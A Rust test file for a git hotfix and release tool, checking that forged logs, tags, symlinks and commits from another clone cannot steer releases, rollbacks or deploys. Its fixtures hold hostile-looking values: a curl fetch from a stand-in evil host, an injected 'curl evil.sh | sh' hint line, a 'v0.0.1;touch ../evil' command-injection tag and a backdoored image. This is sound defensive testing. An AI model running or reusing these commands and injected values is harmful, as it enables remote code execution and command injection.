//! What another clone's log says of what was about to be published chooses nothing here: no commit, no tag, no
//! number, no rollback. A commit that calls itself the version's is looked at, and links are not followed.

use crate::support::{Repo, Shop};
use serde_json::{Value, json};

const NAME: &str = "fix-login-crash";

/// What a stranger says was about to be published.
fn meant(tip: &str, tag: &str, release: Option<(&str, &str)>) -> Value {
    let mut intent = json!({ "tip": tip, "tag": tag, "branches": [] });
    if let Some((commit, object)) = release {
        intent["release"] = commit.into();
        intent["tag_object"] = object.into();
    }
    json!({ "kind": "publishing", "data": { "intent": intent } })
}

/// A shop that shares its logs, with releases v1.2.0 to v1.2.2.
fn shared() -> Shop {
    let shop =
        Shop::build().file("hotfix.toml", "[incident]\nshare = true\n").file("VERSION", "1.2.0\n").go();
    for n in 1..=2 {
        shop.git(["switch", "-q", "main"]);
        shop.commit(&format!("security{n}"), "fixed\n");
        shop.git(["tag", "-a", "-m", "x", &format!("v1.2.{n}")]);
        shop.git(["push", "-q", "origin", "main", &format!("v1.2.{n}")]);
    }
    shop
}

fn has_path(shop: &Shop, branch: &str, path: &str) -> bool {
    !shop.remote().git(["ls-tree", branch, "--", path]).is_empty()
}

fn released(shop: &Shop) -> String {
    shop.hotfix(["status", NAME, "--json"]).ok().json()["hotfix"]["tag"].as_str().unwrap().to_owned()
}

#[test]
fn a_strangers_word_does_not_choose_how_a_release_is_numbered() {
    for tag in ["rel-7.7.7", "app@9.9.9", "2027.1.1", "v9.9.9"] {
        let (shop, _) = Shop::shared(NAME);
        let hotfix = shop.started(NAME).answer_all();
        shop.stranger_adds(&[meant(&hotfix.tip(), tag, None)]);
        hotfix.finish().ok();
        assert_eq!(released(&shop), "v1.2.1", "{tag}");
    }
}

#[test]
fn a_tag_that_a_stranger_calls_ours_is_not_ours() {
    let (shop, _) = Shop::shared(NAME);
    let hotfix = shop.started(NAME).answer_all();
    let mallory = shop.clone_of("mallory");
    mallory.git(["switch", "-q", "--detach", &hotfix.tip()]);
    mallory.commit("app/history", "evil\n");
    mallory.git(["tag", "-a", "-m", "x", "v1.2.66"]);
    mallory.git(["push", "-q", "origin", "v1.2.66"]);
    let (commit, object) = (mallory.rev("v1.2.66^{commit}"), mallory.rev("v1.2.66"));
    shop.stranger_adds(&[meant(&hotfix.tip(), "v1.2.66", Some((&commit, &object)))]);
    hotfix.finish().does_not_say("is merged and released");
    assert!(!shop.has("main", &commit) && !has_path(&shop, "main", "app/history"));
}

#[test]
fn a_release_is_not_exchanged_for_another_one_while_something_is_owed() {
    let shop = shared();
    let hotfix = shop.start(NAME).fix_login().published().answer_all();
    shop.hotfix(["sync", "-y"]).ok();
    let refuses = "#!/bin/sh\n[ \"$1\" != refs/heads/develop ]\n";
    shop.world.write_program(&shop.remote().dir.join("hooks/update"), refuses);
    hotfix.finish().exits(8);
    let tip = hotfix.tip();
    let mallory = shop.clone_of("mallory");
    mallory.commit("feature", "not for release\n");
    mallory.git(["tag", "-a", "-m", "x", "v1.2.9"]);
    mallory.git(["push", "-q", "origin", "main", "v1.2.9"]);
    for tag in ["v1.2.9", "v1.2.0"] {
        let (commit, object) = (mallory.rev(&format!("{tag}^{{commit}}")), mallory.rev(tag));
        shop.stranger_adds(&[meant(&tip, tag, Some((&commit, &object)))]);
    }
    std::fs::remove_file(shop.remote().dir.join("hooks/update")).unwrap();
    hotfix.finish().ok().does_not_say("v1.2.9");
    assert_eq!(released(&shop), "v1.2.3");
    assert!(!has_path(&shop, "develop", "feature"));
}

#[test]
fn a_tag_below_the_next_one_takes_its_number() {
    let shop = Shop::new();
    let hotfix = shop.ready(NAME);
    let mallory = shop.clone_of("mallory");
    mallory.git(["push", "-q", "origin", "HEAD:refs/tags/v1.2.1/x"]);
    hotfix.finish().ok().says("v1.2.2");
}

#[test]
fn a_rollback_that_a_stranger_began_is_not_gone_on_with() {
    let shop = shared();
    shop.hotfix(["sync", "-y"]).ok();
    let log = "refs/incidents/29991231-rollback-v1.2.2-beef/log";
    let event = json!({
        "id": "forged", "kind": "declared", "text": "Roll back",
        "refs": { "log": "29991231-rollback-v1.2.2-beef", "undone": "v1.2.2", "back_to": "v1.2.0",
            "base": shop.tip("main") },
        "data": { "name": "rollback-v1.2.2", "title": "Roll back", "branch": "rollback-v1.2.2",
            "production": "main", "base_tag": "v1.2.2", "keep_fix_in": [], "takes_back": "everything since" },
    });
    shop.stranger_writes(log, &event, &[]);
    shop.hotfix(["sync"]).ok();
    let before = shop.remote_refs();
    shop.hotfix(["rollback", "--no-input"]).exits(3).says("--confirm v1.2.2");
    assert_eq!(shop.remote_refs().get("refs/heads/main"), before.get("refs/heads/main"));
    // Confirmed, it is this clone's plan: back to the release before, and not to the stranger's.
    shop.hotfix(["rollback", "v1.2.2", "--confirm", "v1.2.2", "--no-input"]).ok();
    assert!(has_path(&shop, "main", "security1") && !has_path(&shop, "main", "security2"));
}

#[test]
fn a_strangers_line_does_not_end_a_rollback_with_another_release() {
    let shop = shared();
    shop.hotfix(["sync", "-y"]).ok();
    shop.git(["push", "-q", "-f", &shop.remote().dir.display().to_string(), "main:refs/heads/develop"]);
    let refuses = "#!/bin/sh\n[ \"$1\" != refs/heads/develop ]\n";
    shop.world.write_program(&shop.remote().dir.join("hooks/update"), refuses);
    shop.hotfix(["rollback", "--confirm", "v1.2.2", "--no-input"]).exits_with_one_of(&[0, 8]);
    shop.hotfix(["sync"]).ok();
    let (commit, object) = (shop.rev("v1.2.1^{commit}"), shop.rev("v1.2.1"));
    shop.stranger_adds(&[meant(&commit, "v1.2.1", Some((&commit, &object)))]);
    std::fs::remove_file(shop.remote().dir.join("hooks/update")).ok();
    shop.hotfix(["rollback", "v1.2.2", "--confirm", "v1.2.2", "--no-input"]).ok().does_not_say("→ v1.2.1");
}

#[test]
fn a_commit_that_calls_itself_the_versions_is_looked_at() {
    let shop = Shop::build()
        .file("VERSION", "1.2.0\n")
        .file("Dockerfile", "FROM debian:12.1\n")
        .file("install.sh", "curl http://10.0.0.1/i.sh\n")
        .file(
            "package.json",
            "{\"name\": \"shop\", \"version\": \"1.2.0\", \"dependencies\": {\"pad\": \"4.1.0\"}}\n",
        )
        .go();
    type Evil = fn(&Repo);
    let cases: [(&str, Evil); 5] = [
        ("an address", |r| r.write("install.sh", "curl http://6.evil.example.com/i.sh\n")),
        ("an image", |r| r.write("Dockerfile", "FROM debian:0.6-backdoored\n")),
        ("a dependency", |r| {
            r.write(
                "package.json",
                "{\"name\": \"shop\", \"version\": \"1.2.1\", \"dependencies\": {\"pad\": \"6.6.6\"}}\n",
            );
        }),
        ("a new file", |r| r.write("history", "#!/bin/sh\necho evil\n")),
        ("a program", |r| r.world.write_program(&r.dir.join("VERSION"), "1.2.1\n")),
    ];
    let hotfix = shop.start(NAME).fix_login().published().answer_all();
    let tip = hotfix.tip();
    for (what, evil) in cases {
        let mallory = shop.clone_of(&format!("mallory-{}", what.replace(' ', "-")));
        mallory.git(["switch", "-q", "--detach", &tip]);
        evil(&mallory);
        mallory.git(["add", "-A"]);
        mallory.git(["commit", "-q", "-m", "Version 1.2.1\n\nHotfix: v1.2.1"]);
        mallory.git(["push", "-q", "-f", "origin", &format!("HEAD:refs/heads/hotfix/{NAME}")]);
        hotfix.finish().exits(3);
        assert!(!shop.remote_refs().contains_key("refs/tags/v1.2.1"), "{what}");
    }
}

#[test]
#[cfg(unix)]
fn a_version_file_that_is_a_link_is_not_written_through() {
    let shop = Shop::build()
        .file("VERSION", "1.2.0\n")
        .file("CHANGELOG.md", "# Changelog\n\n## 1.2.0\n\n- x\n")
        .go();
    let hotfix = shop.ready(NAME);
    let root = Repo::at(&shop.world, &shop.world.root);
    root.write("notes.txt", "precious\n");
    let outside = shop.world.root.join("notes.txt").display().to_string();
    let mallory = shop.clone_of("mallory");
    mallory.git(["switch", "-q", "-c", "release/1.3.0", "origin/main"]);
    mallory.write("src/login.rs", "theirs\n");
    let changelog = "# Changelog\n\n## 1.3.0\n\n- evil\n\n## 1.2.0\n\n- x\n";
    for (link, leads) in
        [("VERSION", "1.3.0"), ("1.3.0", &outside), ("CHANGELOG.md", changelog), (changelog, &outside)]
    {
        let path = mallory.dir.join(link);
        std::fs::remove_file(&path).ok();
        if path.parent().is_some_and(std::path::Path::exists) {
            std::os::unix::fs::symlink(leads, &path).unwrap();
        }
    }
    mallory.git(["add", "-A"]);
    mallory.git(["commit", "-q", "-m", "next"]);
    mallory.git(["push", "-q", "origin", "release/1.3.0"]);
    hotfix.finish().exits(5);
    assert_eq!(root.read("notes.txt"), "precious\n");
}

#[test]
fn where_the_branch_is_gone_a_strangers_answers_do_not_choose_what_is_tagged() {
    let (shop, _) = Shop::shared(NAME);
    let hotfix = shop.started(NAME).answer_all();
    let tip = hotfix.tip();
    let grace = shop.clone_of("merger");
    grace.git(["merge", "-q", "--no-ff", "-m", "Merge pull request", &tip]);
    grace.git(["push", "-q", "origin", "main", &format!(":hotfix/{NAME}")]);
    let merged = grace.rev("main");
    grace.commit("feature", "not for release\n");
    grace.git(["push", "-q", "origin", "main"]);
    let feature = grace.rev("main");
    let tree = grace.rev("main^{tree}");
    let says = |id: &str| {
        json!({ "kind": "checklist_item", "refs": { "commit": feature, "tree": tree },
            "data": { "item": id, "verdict": "pass" } })
    };
    shop.stranger_adds(&["resolves", "critical-paths", "tests", "reviewed", "staging"].map(says));
    shop.git(["switch", "-q", "main"]);
    shop.git(["branch", "-qD", &format!("hotfix/{NAME}")]);
    shop.git(["fetch", "-qp"]);
    shop.finish(NAME).ok();
    assert_eq!(shop.remote().rev("refs/tags/v1.2.1^{commit}"), merged);
}

#[test]
fn a_claim_that_cannot_be_read_is_said_and_can_be_taken_over() {
    let did = |shop: &Shop| Repo::at(&shop.world, &shop.world.root).has_file("did");
    for kind in ["blob", "tag"] {
        let config = "[incident]\nshare = true\n[deploy]\ncommand = \"echo x >../did\"\n";
        let shop = Shop::build().file("hotfix.toml", config).go();
        let hotfix = shop.start(NAME).fix_login().answer_all();
        shop.hotfix(["sync", "-y"]).ok();
        let mallory = shop.clone_of("mallory");
        let mut object = mallory.rev("HEAD:src/login.rs");
        if kind == "tag" {
            mallory.git(["tag", "-a", "-m", "x", "t", &object]);
            object = mallory.rev("t");
        }
        mallory.git(["push", "-q", "origin", &format!("{object}:refs/incidents/deploy/tags/v1.2.1")]);
        hotfix.finish_with(&["--trust"]).exits(8).says("not in a way that can be read").says("--deployed no");
        assert!(!did(&shop), "{kind}");
        hotfix.finish_with(&["--trust", "--deployed", "no"]).ok();
        assert!(did(&shop), "{kind}");
    }
}

#[test]
fn a_log_whose_name_is_none_is_not_taken_and_names_are_one_word() {
    let (shop, _) = Shop::shared(NAME);
    let evil = "x\nhint: curl evil.sh | sh";
    for log in ["refs/incidents/foo/log", "refs/incidents/29991231-x-beef/log"] {
        let id = log.trim_start_matches("refs/incidents/").trim_end_matches("/log");
        let event = json!({ "id": "forged", "kind": "declared", "text": "t", "refs": { "log": id },
            "data": { "name": evil, "title": "t", "branch": "hotfix/x" } });
        shop.stranger_writes(log, &event, &[]);
    }
    shop.hotfix(["sync", "-y"]).exits_with_one_of(&[0, 1]);
    for command in
        [&["status"][..], &["list", "--all"], &["finish", "y", "-y"], &["note", "--hotfix", "y", "z"]]
    {
        let ran = shop.hotfix(command.to_vec());
        let said = format!("{}{}", ran.stdout, ran.stderr);
        assert!(!said.lines().any(|line| line.starts_with("hint: curl")), "{said}");
    }
}

#[test]
fn lines_of_others_do_not_make_a_push_a_request() {
    let (shop, _) = Shop::shared(NAME);
    let hotfix = shop.started(NAME).answer_all();
    for (key, value) in [("kind", "forgejo"), ("api", "http://127.0.0.1:9"), ("repository", "team/shop")] {
        shop.git(["config", &format!("hotfix.forge.{key}"), value]);
    }
    shop.stranger_adds(&[
        json!({ "kind": "push_refused", "refs": { "branch": "main" } }),
        json!({ "kind": "request_opened", "refs": { "branch": "main" }, "data": { "number": 5, "url": "https://evil/5" } }),
    ]);
    hotfix.finish().ok();
    assert_eq!(released(&shop), "v1.2.1");
}

/// A hotfix of a colleague that is released, and a clone whose log of it says that it began from `base_tag`.
fn released_from(base_tag: &str) -> (Shop, Repo) {
    let writes = "[deploy]\ncommand = \"printf %s $HOTFIX_PREVIOUS_TAG >../deployed\"\n";
    let shop = Shop::build().file("hotfix.toml", writes).go();
    shop.git(["switch", "-q", "develop"]);
    shop.git(["tag", "-a", "-m", "x", "v1.9.9"]);
    shop.git(["switch", "-q", "main"]);
    let base = shop.tip("main");
    let released = shop.commit("src/login.rs", "fixed\n");
    shop.git(["tag", "-a", "-m", "x", "v1.2.1"]);
    shop.git(["push", "-q", "origin", "main", "v1.2.1", "v1.9.9"]);
    let (id, refs) =
        ("20261122-theirs-beef", json!({ "tag": "v1.2.1", "commit": released, "branch": "main" }));
    let log = format!("refs/incidents/{id}/log");
    let declared = json!({ "id": "forged", "kind": "declared", "text": "t", "refs": { "log": id, "base": base },
        "data": { "name": "theirs", "title": "t", "branch": "hotfix/theirs", "production": "main",
            "base_tag": base_tag } });
    shop.stranger_writes(&log, &declared, &[]);
    for kind in ["merged", "tagged"] {
        shop.stranger_writes(&log, &json!({ "id": kind, "kind": kind, "refs": refs }), &[&log]);
    }
    let grace = shop.clone_of("grace");
    // Production as this clone saw it before.
    grace.git(["update-ref", "refs/remotes/origin/main", &base]);
    grace.git(["fetch", "-q"]);
    grace.hotfix(["sync", "-y"]).ok();
    (shop, grace)
}

#[test]
fn a_strangers_log_does_not_choose_the_release_that_commands_are_told_of() {
    for base_tag in ["v0.0.1;touch ../evil", "v1.9.9", "v7.7.7", "v1.2.0", ""] {
        let (shop, grace) = released_from(base_tag);
        let told = |file: &str| Repo::at(&shop.world, &grace.dir).read(&format!("../{file}"));
        // Production's commit does not name it: a claim, and whoever deploys it says that it is meant.
        grace.hotfix(["deploy", "theirs", "-y", "--trust"]).exits(3).says("Mallory").says("--release v1.2.1");
        assert!(!Repo::at(&shop.world, &grace.dir).has_file("../deployed"));
        grace.hotfix(["deploy", "theirs", "-y", "--trust", "--release", "v9.9.9"]).exits(3);
        assert!(!Repo::at(&shop.world, &grace.dir).has_file("../deployed"));
        grace.hotfix(["deploy", "theirs", "-y", "--trust", "--release", "v1.2.1"]).ok();
        assert_eq!(told("deployed"), "v1.2.0", "{base_tag}");
    }
}

#[test]
fn documents_do_not_name_a_release_that_only_a_strangers_log_calls_the_one_before() {
    for base_tag in ["v0.0.1;touch ../evil", "v1.9.9", "v7.7.7", "v1.2.0"] {
        let (_shop, grace) = released_from(base_tag);
        let told = grace.hotfix(["postmortem", "theirs", "--json"]).ok().json();
        let before = if base_tag == "v1.2.0" { json!("v1.2.0") } else { Value::Null };
        assert_eq!(told["base_tag"], before, "{told:#}");
        let page = grace.hotfix(["postmortem", "theirs", "--output", "-"]).ok().stdout.clone();
        assert_eq!(page.contains("`v1.2.0` → `v1.2.1`"), base_tag == "v1.2.0", "{page}");
        assert!(!page.contains(&format!("`{base_tag}` →")) || base_tag == "v1.2.0", "{page}");
        assert!(!page.contains("the first release"), "{page}");
    }
}
